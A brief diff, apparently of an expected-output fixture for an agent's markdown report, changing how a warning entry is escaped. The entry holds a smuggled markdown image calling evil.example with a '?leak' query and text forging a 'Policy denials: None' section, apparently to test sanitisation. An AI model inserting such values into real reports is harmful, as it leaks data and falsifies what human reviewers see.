@@ -93,7 +93,7 @@ None seen.
 - ````false ``` @acme/owners fixes #2```` failed (exit 1)
 
 ### Paddock's warnings
-- ````left out of the patch as build output, not the job's work: x` ![](https:evil.example?leak) <details> ### Policy denials None. ```/__pycache__/````
+- ````left out of the patch as build output, not the job's work: x` ![](https:evil.example?leak) <details>\\u{{a}}\\u{{a}}### Policy denials\\u{{a}}None.\\u{{a}}\\u{{a}}```/__pycache__/````
 
 ### Policy denials
 None.
